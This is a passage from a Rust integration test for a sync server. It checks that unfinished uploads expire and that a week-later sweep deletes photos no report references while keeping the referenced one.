    assert_eq!(offset_of(&http, &unfinished, &device).await, None);
    assert!(!server.state.uploads_dir().join(upload_id(&unfinished)).exists(), "its data is gone");
    assert_eq!(photo(&http, &base, &sha_hex(&unused), Some(&device)).await.status(), StatusCode::OK);
    // ...and after a week the photo no report shows goes too; the one a report shows stays.
    let swept = casa_sync_server::platform::uploads::sweep(&server.state, Utc::now() + chrono::Duration::days(8)).await.expect("sweep");
    assert_eq!(swept.photos, 1);
    assert_eq!(photo(&http, &base, &sha_hex(&unused), Some(&device)).await.status(), StatusCode::NOT_FOUND);
    let gone = casa_shared_model::report::PhotoRef::parse(&sha_hex(&unused)).expect("sha");
    assert!(!server.state.photos().path(&gone).exists());
    assert_eq!(photo(&http, &base, &sha_hex(&used), Some(&device)).await.status(), StatusCode::OK);
    drop(http);
    server.stop().await;
}
on_both_databases!(unfinished_uploads_and_photos_no_report_uses_expire, super::unfinished_uploads_and_photos_no_report_uses_expire);
